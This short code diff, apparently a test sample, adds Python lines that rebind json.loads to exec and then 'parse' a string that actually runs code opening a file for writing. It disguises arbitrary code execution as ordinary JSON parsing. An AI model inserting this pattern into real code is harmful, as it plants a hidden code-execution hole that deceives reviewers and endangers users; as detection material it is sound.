@@ -1,0 +1,3 @@
+import json
+setattr(json, "loads", exec)
+json.loads("open('pf','w')")
